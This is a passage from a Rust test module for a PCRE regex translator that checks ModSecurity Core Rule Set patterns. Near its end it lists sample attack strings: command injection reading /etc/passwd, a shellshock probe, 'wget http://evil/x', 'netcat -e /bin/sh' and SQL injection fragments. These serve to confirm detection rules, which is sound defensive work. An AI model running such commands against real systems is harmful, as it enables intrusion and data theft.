            Found::Match => true,
            Found::None => false,
            Found::LimitHit => panic!("{pcre:?} hit the backtracking limit"),
        }
    }

    fn linear(pcre: &str) -> String {
        match translate(pcre) {
            Ok(t) => t,
            Err(e) => panic!("{pcre:?}: {e}"),
        }
    }

    fn groups(pcre: &str, hay: &[u8]) -> Vec<Option<Vec<u8>>> {
        let mut g = Vec::new();
        assert_eq!(pat(pcre).captures(hay, &mut g), Found::Match, "{pcre:?}");
        g
    }

    #[test]
    fn literal_braces_are_escaped_and_quantifiers_kept() {
        assert_eq!(linear("a{"), r"(?s-u)a\{");
        assert_eq!(linear("${x}"), r"(?s-u)\z\{x\}");
        assert_eq!(linear("x{2}y{2,}z{2,3}"), "(?s-u)x{2}y{2,}z{2,3}");
        assert_eq!(linear("x{,3}"), r"(?s-u)x\{,3\}");
        assert!(matches(r"\${", b"${foo}"));
        assert!(matches(r"a{,2}", b"a{,2}"));
        assert!(!matches(r"a{,2}", b"aa"));
        assert!(matches(r"^a{2}$", b"aa"));
        assert!(matches(r"{.+}", b"{x}"));
        assert!(Pattern::new(r"\x{zz}").is_err());
        assert!(Pattern::new(r"\x{}").is_err());
        assert!(Pattern::new("a{3,2}").is_err());
        assert!(Pattern::new("a{70000}").is_err());
    }

    #[test]
    fn possessive_quantifiers_become_plain_where_equivalent() {
        assert_eq!(linear("a*+b++c?+d{1,2}+$"), r"(?s-u)a*b+c?d{1,2}\z");
        assert_eq!(linear(r"\s*+;"), r"(?s-u)\s*;");
        assert_eq!(linear("a+?"), "(?s-u)a+?");
        // What follows may start with a repeated byte only after optional single-byte
        // repeats that can take it (CRS 942260).
        let p942260 = r#"[^?\w\s=.,;)(]++\s*?[(@"'`]*?\s*?\w+\W+\w"#;
        assert_eq!(pat(p942260).engine(), Engine::Linear);
        assert!(matches(p942260, b"x!@\"'a b"));
        assert!(matches(r"^\s*+;\s*+x$", b"  ;  x"));
        // Where the plain form would match more, backtracking runs it exactly (CRS 920600).
        for pcre in [r"^;\s*+[^c;]c=", "a++", r"(?:ab)*+c", "x\\s*+(?:y|\\s)"] {
            let why = translate(pcre).expect_err(pcre);
            assert_eq!(why.kind, Obstacle::Backtracking, "{pcre:?}");
            assert!(why.construct.contains("possessive"), "{pcre:?}: {why}");
            assert_eq!(pat(pcre).engine(), Engine::Backtracking);
        }
        assert!(!matches(r"^;\s*+[^c;]c=", b"; c="));
        assert!(matches(r"^;\s*+[^c;]c=", b";xc="));
        assert!(matches("a++", b"aa"));
        // Atomic groups likewise.
        let why = translate("(?>ab|a)c").expect_err("atomic");
        assert!(why.construct.contains("atomic"), "{why}");
        assert!(!matches("(?>a+)a", b"aaa"));
        assert!(matches("(?>a+)b", b"aab"));
        assert!(!matches("(?>ab|a)bc", b"abc"));
    }

    #[test]
    fn punctuation_escapes_are_literals() {
        for c in br#"/-'"<>#%@!,;:=&~` "#.iter().copied() {
            let pcre = format!("^\\{}$", char::from(c));
            assert!(matches(&pcre, &[c]), "{pcre:?}");
            assert!(!matches(&pcre, b"x"), "{pcre:?}");
        }
        // `\<` and `\>` are word boundaries to the regex crate, literals to PCRE.
        assert!(matches(r"a\<b\>", b"a<b>"));
        assert!(!matches(r"\<b", b"b"));
        // Escaped metacharacters stay escaped.
        assert!(matches(
            r"^\.\*\+\?\(\)\[\]\{\}\|\^\$\\$",
            br".*+?()[]{}|^$\"
        ));
        // Unknown letter escapes are the letter (PCRE without PCRE_EXTRA).
        assert!(matches(r"^\i\j\m\q\y$", b"ijmqy"));
        assert!(Pattern::new(r"(?X)\i").is_err());
    }

    #[test]
    fn class_brackets_and_set_operators_are_literal() {
        assert_eq!(linear("[[]"), r"(?s-u)[\[]");
        assert_eq!(linear("[a[b]"), r"(?s-u)[a\[b]");
        assert!(matches("^[a[b]+$", b"a[b"));
        assert!(matches("^[a&&b]+$", b"a&&b"));
        assert!(matches("^[+--]+$", b"+,-"));
        assert!(matches("^[a-z--]+$", b"a-"));
        assert!(matches("^[a~~b]+$", b"a~~b"));
        assert!(matches(r#"^[^"(),\/:;<=>?![\x5c\]{}]+$"#, b"text"));
        assert!(!matches(
            r#"[^"(),\/:;<=>?![\x5c\]{}]"#,
            br#""(),/:;<=>?![\]{}"#
        ));
        // `]` first is literal, also after `^`.
        assert!(matches("^[]a]+$", b"]a"));
        assert!(matches("^[^]a]$", b"b"));
        assert!(!matches("^[^]a]$", b"]"));
        // Hyphens: ranges, literal at the ends and after a class escape.
        assert!(matches("^[a-c]+$", b"abc"));
        assert!(matches("^[a-]+$", b"a-"));
        assert!(matches("^[-a]+$", b"-a"));
        assert!(matches(r"^[\d-z]+$", b"1-z"));
        assert!(!matches(r"^[\d-z]+$", b"y"));
        assert!(matches(r"^[\w.-]+$", b"a.b-c"));
        // `^` not first is literal.
        assert!(matches("^[a^]+$", b"^a"));
        // POSIX classes.
        assert!(matches("^[[:alpha:]]+$", b"abcXYZ"));
        assert!(!matches("^[[:alpha:]]+$", b"abc1"));
        assert!(matches("^[[:^digit:]]+$", b"abc"));
        assert!(matches("^[[:word:][:space:]]+$", b"a_1 \x0b"));
        assert!(matches("^[[:x]+$", b"[:x"));
        assert!(Pattern::new("[[:nope:]]").is_err());
        assert!(Pattern::new("[[.a.]]").is_err());
        assert!(Pattern::new("[z-a]").is_err());
        // `\b` in a class is backspace.
        assert!(matches(r"^[\b]$", b"\x08"));
    }

    #[test]
    fn hex_and_octal_escapes() {
        assert!(matches(r"^\x41\x{42}\x4$", b"AB\x04"));
        assert!(matches(r"^\x$", b"\0"));
        assert!(matches(r"^\xff\x{FE}$", b"\xff\xfe"));
        assert!(matches(r"^[\x7f-\xff]+$", b"\x7f\x80\xff"));
        assert!(!matches(r"[\x7f-\xff]", b"abc"));
        assert!(matches(r"^\0\012\101\o{102}$", b"\0\nAB"));
        // `\8` is the digit 8; `\12` with no 12 groups is octal 012.
        assert!(matches(r"^\8\12$", b"8\n"));
        assert!(matches(r"^\cA\cz\e\a\f$", b"\x01\x1a\x1b\x07\x0c"));
        assert!(Pattern::new(r"\x{100}").is_err());
        assert!(Pattern::new(r"\400").is_err());
    }

    #[test]
    fn anchors_follow_dollar_endonly() {
        assert!(matches("a$", b"a"));
        assert!(!matches("a$", b"a\n"));
        assert!(matches("(?m)a$", b"a\nb"));
        assert!(!matches("a$", b"a\nb"));
        assert!(matches(r"a\Z", b"a\n"));
        assert!(matches(r"a\Z", b"a"));
        assert!(!matches(r"a\Z", b"a\n\n"));
        assert!(matches(r"\Aa\z", b"a"));
        assert!(!matches(r"\Aa\z", b"a\n"));
        assert!(matches(r"\Gab", b"ab"));
        assert!(!matches(r"\Gb", b"ab"));
        assert!(!matches("^b", b"a\nb"));
        assert!(matches("(?m)^b", b"a\nb"));
    }

    #[test]
    fn dotall_bytes_and_ascii_classes() {
        assert!(matches("^.$", b"\n"));
        assert!(matches("^.$", b"\xff"));
        assert!(matches("(?-s)^a.b$", b"a.b"));
        assert!(!matches("(?-s)^a.b$", b"a\nb"));
        assert!(!matches(r"\w", "é".as_bytes()));
        assert!(!matches(r"\d", "٣".as_bytes()));
        assert!(matches(r"^\s+$", b" \t\n\x0b\x0c\r"));
        assert!(!matches(r"\s", b"\xa0\x85"));
        assert!(matches(r"(?i)^abc$", b"AbC"));
        assert!(!matches(r"(?i)^k$", "\u{212a}".as_bytes()));
        assert!(matches(r"\bfoo\b", b"a foo."));
        // Non-ASCII in the pattern is its bytes; a quantifier repeats the last byte.
        assert!(matches("^é+$", b"\xc3\xa9\xa9"));
        assert!(!matches("^é+$", "éé".as_bytes()));
        assert!(matches("^[é]{2}$", b"\xa9\xc3"));
        // Option scope.
        assert!(matches("^(?:a(?i)b|c)$", b"C"));
        assert!(!matches("^(?:a(?i)b)c$", b"aBC"));
        assert!(matches("^(?i:a)b$", b"Ab"));
        assert!(!matches("^(?i:a)b$", b"AB"));
    }

    #[test]
    fn pcre_space_classes() {
        assert!(matches(r"^\h+$", b" \t\xa0"));
        assert!(!matches(r"\h", b"\n"));
        assert!(matches(r"^\v+$", b"\n\x0b\x0c\r\x85"));
        assert!(!matches(r"\v", b" "));
        assert!(matches(r"^\H\V$", b"ab"));
        assert!(matches(r"^[\h\v]+$", b" \n"));
        assert!(matches(r"^a\Rb$", b"a\r\nb"));
        assert!(matches(r"^a\Rb$", b"a\nb"));
        assert!(matches(r"^\N+$", b"abc"));
        assert!(!matches(r"^\N+$", b"a\nc"));
        assert!(matches(r"^\C\C$", "é".as_bytes()));
    }

    #[test]
    fn groups_names_comments_quotes_and_extended_mode() {
        assert_eq!(linear("(?<n>a)(?P<m>b)(?'o'c)"), "(?s-u)(a)(b)(c)");
        let g = groups("(?<n>a)(?P<m>b)(c)?(d)", b"xabd");
        assert_eq!(g.len(), CAPTURE_GROUPS);
        assert_eq!(g[0].as_deref(), Some(&b"abd"[..]));
        assert_eq!(g[1].as_deref(), Some(&b"a"[..]));
        assert_eq!(g[2].as_deref(), Some(&b"b"[..]));
        assert_eq!(g[3], None);
        assert_eq!(g[4].as_deref(), Some(&b"d"[..]));
        assert_eq!(g[9], None);
        assert_eq!(linear("a(?#comment)b"), "(?s-u)ab");
        assert!(matches(r"^\Qa.b*\E+$", b"a.b**"));
        assert!(!matches(r"^\Qa.b\E$", b"axb"));
        assert!(matches(r"^[\Q]\E]$", b"]"));
        assert!(matches(r"^a\Eb$", b"ab"));
        assert!(matches("(?x) ^ a b # comment\n c $", b"abc"));
        assert!(matches("(?x)^[ ]$", b" "));
        assert!(matches(r"(?x)^a\ b$", b"a b"));
        assert!(matches("(?x:a b) c", b"ab c"));
        assert!(!matches("(?x:a b) c", b"abc"));
        let mut g = vec![Some(b"stale".to_vec())];
        assert_eq!(pat("x").captures(b"y", &mut g), Found::None);
        assert!(g.is_empty());
    }

    #[test]
    fn backtracking_constructs_go_to_fancy_regex() {
        for (pcre, construct) in [
            ("a(?=b)", "look-ahead"),
            ("a(?!b)", "negative look-ahead"),
            ("(?<=a)b", "look-behind"),
            ("(?<!a)b", "negative look-behind"),
            (r"(a)\1", "back-reference"),
            (r"(a)\g{1}", "back-reference"),
            (r"(a)\g{-1}", "back-reference"),
            (r"(a)\g1", "back-reference"),
            (r"(?<n>a)\k<n>", "back-reference"),
            (r"(?P<n>a)(?P=n)", "back-reference"),
            (r"(a)(?(1)b|c)", "conditional"),
            (r"a\Kb", "\\K"),
        ] {
            let why = translate(pcre).expect_err(pcre);
            assert_eq!(why.kind, Obstacle::Backtracking, "{pcre:?}");
            assert!(why.construct.contains(construct), "{pcre:?}: {why}");
            assert_eq!(pat(pcre).engine(), Engine::Backtracking, "{pcre:?}");
        }
        assert!(matches("a(?=b)", b"ab"));
        assert!(!matches("a(?=b)", b"ac"));
        assert!(matches("a(?!b)", b"ac"));
        assert!(matches("(?<=a)b", b"ab"));
        assert!(!matches("(?<!a)b", b"ab"));
        assert!(matches("(?<!ab|x);", b"ac;"));
        assert!(!matches("(?<!ab|x);", b"ab;"));
        assert!(!matches("(?<!ab|x);", b"x;"));
        assert!(matches(r"^(a)\1$", b"aa"));
        assert!(!matches(r"^(a)\1$", b"ab"));
        assert!(matches(r"(?i)^(a)\1$", b"aA"));
        assert!(matches(r"^(?<n>ab)\k<n>$", b"abab"));
        assert!(matches(r"^(?P<n>ab)(?P=n)$", b"abab"));
        assert!(matches(r"^(a)(b)\g{-2}$", b"aba"));
        assert!(matches(r"^(a)?(?(1)b|c)$", b"ab"));
        assert!(matches(r"^(a)?(?(1)b|c)$", b"c"));
        // Bytes stay bytes on the backtracking engine too.
        assert!(matches(r"^\xff(?=\xfe)", b"\xff\xfe"));
        assert!(matches(r"^(.)\1$", b"\xff\xff"));
        assert!(!matches(r"^\w(?=x)", "éx".as_bytes()));
        assert!(matches(r"^.(?!x).$", b"\n\n"));
        assert!(!matches(r"^a(?=b)\Z", b"ab"));
        let g = groups(r"(\w+)=\1", b"x abc=abc");
        assert_eq!(g[0].as_deref(), Some(&b"abc=abc"[..]));
        assert_eq!(g[1].as_deref(), Some(&b"abc"[..]));
        // Backtracking-only escapes keep their meaning there.
        assert!(matches(r"(?<!x)a\Z", b"a\n"));
        assert!(!matches(r"(?<!x)a\Z", b"a\n\n"));
        assert!(matches(r"(?=a)(?>a+)b", b"aab"));
        assert!(!matches(r"(?=a)(?>a+)a", b"aaa"));
        assert!(!matches(r"(?=a)a++a", b"aaa"));
    }

    #[test]
    fn backtracking_limit_is_reported() {
        let p = pat(r"^(?:(a+)+\1)+$(?<=x)");
        assert_eq!(p.engine(), Engine::Backtracking);
        let mut hay = vec![b'a'; 40];
        hay.push(b'b');
        assert_eq!(p.find(&hay), Found::LimitHit);
        let mut g = Vec::new();
        assert_eq!(p.captures(&hay, &mut g), Found::LimitHit);
        assert!(g.is_empty());
    }

    #[test]
    fn unsupported_and_invalid_patterns_are_errors() {
        for (pcre, kind) in [
            (r"\p{L}", Obstacle::Unsupported),
            (r"\X", Obstacle::Unsupported),
            ("(?|a)", Obstacle::Unsupported),
            ("(*UTF8)a", Obstacle::Unsupported),
            ("a\\", Obstacle::Invalid),
            ("[abc", Obstacle::Invalid),
            ("(abc", Obstacle::Invalid),
            ("abc)", Obstacle::Invalid),
            ("(?Q)", Obstacle::Invalid),
            (r"\u0041", Obstacle::Invalid),
            ("(?#abc", Obstacle::Invalid),
        ] {
            let why = translate(pcre).expect_err(pcre);
            assert_eq!(why.kind, kind, "{pcre:?}: {why}");
            let err = Pattern::new(pcre).expect_err(pcre);
            assert_eq!(err.pattern(), pcre);
        }
        // A back-reference to a group that does not exist.
        assert!(Pattern::new(r"(a)\2").is_err());
        assert!(Pattern::new(r"\k<nope>").is_err());
        assert!(Pattern::new("(?(1)a)").is_err());
        assert!(Pattern::new("(?(2)a|b)(x)").is_err());
        assert!(Pattern::new("(?(1)a|b)(x)").is_ok());
        // Quantifier with nothing to repeat: the regex crate says so.
        assert!(matches!(
            Pattern::new("*a"),
            Err(PatternError::Linear { .. })
        ));
    }

    #[test]
    fn never_panics_on_odd_patterns() {
        let pieces = [
            "(", ")", "[", "]", "\\", "{", "}", "?", "*", "+", "|", "^", "$", "(?", "(?<", "(?P",
            "\\x", "\\x{", "\\0", "\\1", "\\9", "\\g", "\\k", "\\c", "\\o{", "[:", ":]", "-", "a",
            "é", "\u{ff}", "#", " ", "(?x)", "\\Q", "\\E", "(?(", "\\N", "{2}", ",",
        ];
        let mut seed: u32 = 7;
        for _ in 0..4000 {
            let mut pcre = String::new();
            for _ in 0..(seed % 7 + 1) {
                seed = seed.wrapping_mul(1_103_515_245).wrapping_add(12_345);
                pcre.push_str(pieces[(seed >> 16) as usize % pieces.len()]);
            }
            if let Ok(p) = Pattern::new(&pcre) {
                let mut g = Vec::new();
                let _ = p.captures(b"a(b)[c]{2}\\ \xff\n", &mut g);
            }
            let _ = translate(&pcre);
        }
    }

    // ---- The Core Rule Set as installed (Debian's modsecurity-crs 3.3.4). ----

    const CRS_RULES: &str = "/usr/share/modsecurity-crs/rules";

    /// The `@rx` patterns of the installed CRS, with the id of their rule (a chained rule
    /// carries the id of the rule that starts the chain), or `None` when the rules are not
    /// installed (and `KANSOKU_REQUIRE_SHARED` is not `1`).
    fn crs_patterns() -> Option<Vec<(String, String)>> {
        let dir = std::path::Path::new(CRS_RULES);
        if !dir.is_dir() {
            if std::env::var("KANSOKU_REQUIRE_SHARED").as_deref() == Ok("1") {
                panic!("{CRS_RULES} does not exist and KANSOKU_REQUIRE_SHARED=1");
            }
            eprintln!("{CRS_RULES} does not exist: skipping the CRS pattern tests");
            return None;
        }
        let mut files: Vec<_> = match std::fs::read_dir(dir) {
            Ok(entries) => entries
                .filter_map(|e| e.ok().map(|e| e.path()))
                .filter(|p| p.extension().is_some_and(|x| x == "conf"))
                .collect(),
            Err(e) => panic!("{CRS_RULES}: {e}"),
        };
        files.sort();
        let mut out = Vec::new();
        for file in files {
            let text = match std::fs::read(&file) {
                Ok(bytes) => String::from_utf8_lossy(&bytes).into_owned(),
                Err(e) => panic!("{}: {e}", file.display()),
            };
            let mut last_id = String::from("?");
            for directive in directives(&text) {
                let args = words(&directive);
                if args.first().map(String::as_str) != Some("SecRule") || args.len() < 3 {
                    continue;
                }
                if let Some(id) = args.get(3).and_then(|actions| rule_id(actions)) {
                    last_id = id;
                }
                let op = args[2].strip_prefix('!').unwrap_or(&args[2]);
                let pattern = if let Some(p) = op.strip_prefix("@rx ") {
                    p
                } else if op.starts_with('@') {
                    continue;
                } else {
                    op
                };
                out.push((last_id.clone(), pattern.to_string()));
            }
        }
        Some(out)
    }

    /// Configuration lines with continuations joined, comments dropped.
    fn directives(text: &str) -> Vec<String> {
        let mut out = Vec::new();
        let mut current = String::new();
        for line in text.lines() {
            if current.is_empty() && line.trim_start().starts_with('#') {
                continue;
            }
            match line.strip_suffix('\\') {
                Some(head) => current.push_str(head),
                None => {
                    current.push_str(line);
                    out.push(std::mem::take(&mut current));
                }
            }
        }
        out
    }

    /// Apache's ap_getword_conf: words, quoted ones with `\"` and `\\` unescaped.
    fn words(line: &str) -> Vec<String> {
        let b = line.as_bytes();
        let mut out = Vec::new();
        let mut i = 0;
        while i < b.len() {
            while i < b.len() && b[i].is_ascii_whitespace() {
                i += 1;
            }
            if i >= b.len() {
                break;
            }
            let mut word = Vec::new();
            if b[i] == b'"' || b[i] == b'\'' {
                let quote = b[i];
                i += 1;
                while i < b.len() && b[i] != quote {
                    if b[i] == b'\\' && i + 1 < b.len() && (b[i + 1] == quote || b[i + 1] == b'\\')
                    {
                        i += 1;
                    }
                    word.push(b[i]);
                    i += 1;
                }
                i += 1;
            } else {
                while i < b.len() && !b[i].is_ascii_whitespace() {
                    word.push(b[i]);
                    i += 1;
                }
            }
            out.push(String::from_utf8_lossy(&word).into_owned());
        }
        out
    }

    fn rule_id(actions: &str) -> Option<String> {
        let at = actions.find("id:")? + 3;
        let id: String = actions[at..]
            .trim_start_matches('\'')
            .chars()
            .take_while(char::is_ascii_digit)
            .collect();
        (!id.is_empty()).then_some(id)
    }

    fn crs_pattern(all: &[(String, String)], id: &str) -> Pattern {
        let Some((_, source)) = all.iter().find(|(i, _)| i == id) else {
            panic!("no @rx pattern for rule {id}");
        };
        pat(source)
    }

    #[test]
    fn every_crs_pattern_compiles() {
        let Some(all) = crs_patterns() else { return };
        assert!(all.len() > 200, "only {} @rx patterns found", all.len());
        let mut linear = 0;
        let mut backtracking = Vec::new();
        let mut failed = Vec::new();
        for (id, source) in &all {
            match Pattern::new(source) {
                Ok(p) if p.engine() == Engine::Linear => linear += 1,
                Ok(p) => {
                    if let Inner::Backtracking(bt) = &p.inner {
                        assert!(bt.prefilter.is_some(), "{id}: no linear prefilter");
                    }
                    let why = p.why_backtracking().map(|w| w.to_string());
                    backtracking.push(format!("{id} ({})", why.unwrap_or_default()));
                }
                Err(e) => failed.push(format!("{id}: {e}")),
            }
        }
        eprintln!(
            "CRS @rx patterns: {} in all, {linear} linear, {} backtracking: {}",
            all.len(),
            backtracking.len(),
            backtracking.join("; ")
        );
        assert!(
            failed.is_empty(),
            "{} do not compile:\n{}",
            failed.len(),
            failed.join("\n")
        );
        assert!(backtracking.len() <= 5, "{backtracking:?}");
    }

    #[test]
    fn crs_attack_strings_match() {
        let Some(all) = crs_patterns() else { return };
        // Expectations checked against libpcre 8.39 with PCRE_DOTALL | PCRE_DOLLAR_ENDONLY.
        // Rule id, strings it matches, strings it does not match.
        type Case = (
            &'static str,
            &'static [&'static [u8]],
            &'static [&'static [u8]],
        );
        let cases: [Case; 9] = [
            (
                "932100",
                &[
                    b";ls -la /etc",
                    b"a;cat /etc/passwd",
                    b"() { :;}; echo vulnerable",
                ],
                &[b"hello world", b"x|wget http://evil/x"],
            ),
            (
                "932105",
                &[
                    b"x|wget http://evil/x",
                    b";sed -i s/a/b/ f",
                    b"x;netcat -e /bin/sh",
                ],
                &[b"settings", b"|set"],
            ),
            (
                "932150",
                &[b"=wget http://x", b"ls -la", b"=curl http://x"],
                &[b"concatenate", b"cat /etc/passwd"],
            ),
            ("932170", &[b"() { :;}; echo vulnerable"], &[b"(x) {"]),
            (
                "933180",
                &[b"$foo()", b"$$x (1)", b"${'a'}[0](1)"],
                &[b"$ 5"],
            ),
            (
                "934100",
                &[
                    b"_$$ND_FUNC$$_function(){}",
                    b"eval(x)",
                    b"String.fromCharCode(65)",
                ],
                &[b"evaluate"],
            ),
            (
                "942260",
                &[b"\" or 1=1 having 1", b"\"x like \"%", b"\"!@'a b"],
                &[b"it is fine", b"' union select"],
            ),
            (
                "920600",
                &[b"text/html", b"text/html; charset=utf-8", b"*/*;q=0.8"],
                // The second miss is the one a plain `\s*` instead of `\s*+` would let
                // through.
                &[
                    b"text",
                    b"text/html; charset=utf-16",
                    b"text/html;charset=cp1026",
                ],
            ),
            (
                "942130",
                &[b"1=1", b"'a'='a'", b"x like x"],
                &[b"1=2", b"a=b"],
            ),
        ];
        for (id, hits, misses) in cases {
            let p = crs_pattern(&all, id);
            for hay in hits {
                assert_eq!(
                    p.find(hay),
                    Found::Match,
                    "{id} on {:?}",
                    String::from_utf8_lossy(hay)
                );
            }
            for hay in misses {
                assert_eq!(
                    p.find(hay),
                    Found::None,
                    "{id} on {:?}",
                    String::from_utf8_lossy(hay)
                );
            }
        }
        let p = crs_pattern(&all, "920120");
        assert_eq!(p.find(b"r&eacute;sum&eacute;.txt"), Found::None);
        assert_eq!(p.find(b"a;b"), Found::Match);
        assert_eq!(p.find(b"x'"), Found::Match);
        let p = crs_pattern(&all, "953120");
        assert_eq!(p.find(b"<?php echo"), Found::Match);
        assert_eq!(p.find(b"<?xml version"), Found::None);
    }

    #[test]
    fn crs_patterns_finish_on_hostile_input() {
        let Some(all) = crs_patterns() else { return };
        // The last ones get past the prefilters of the backtracking patterns.
        let inputs: Vec<Vec<u8>> = [&b"'"[..], b"<a ", b";\\^", b"a=", b"((((", b"a=a '", b"<?"]
            .iter()
            .map(|unit| unit.iter().copied().cycle().take(100 * 1024).collect())
            .collect();
        let mut limit_hits = 0;
        let mut g = Vec::new();
        for (id, source) in &all {
            let p = pat(source);
            for hay in &inputs {
                let started = std::time::Instant::now();
                if p.find(hay) == Found::LimitHit {
                    limit_hits += 1;
                    eprintln!(
                        "{id}: limit hit on {:?}...",
                        String::from_utf8_lossy(&hay[..8])
                    );
                }
                if p.captures(hay, &mut g) == Found::LimitHit {
                    limit_hits += 1;
                }
                let took = started.elapsed();
                if took.as_millis() > 500 {
                    eprintln!(
                        "{id} took {took:?} on {:?}...",
                        String::from_utf8_lossy(&hay[..8])
                    );
                }
            }
        }
        eprintln!("hostile inputs: {limit_hits} searches hit the backtracking limit");
    }

    #[test]
    fn long_inputs_get_a_larger_budget() {
        let mut text: Vec<u8> = b"hello world, this is text. "
            .iter()
            .copied()
            .cycle()
            .take(1 << 20)
            .collect();
        text.extend_from_slice(b"x <?php 1=1");
        let p = pat(r"<\?(?!xml)");
        assert_eq!(p.find(&text), Found::Match);
        let p = pat(r"(?i:\b([\d\w]+)\b\s*=\s*\b\1\b)");
        assert_eq!(p.engine(), Engine::Backtracking);
        assert_eq!(p.find(&text), Found::Match);
        let mut g = Vec::new();
        assert_eq!(p.captures(&text, &mut g), Found::Match);
        assert_eq!(g[1].as_deref(), Some(&b"1"[..]));
    }
}
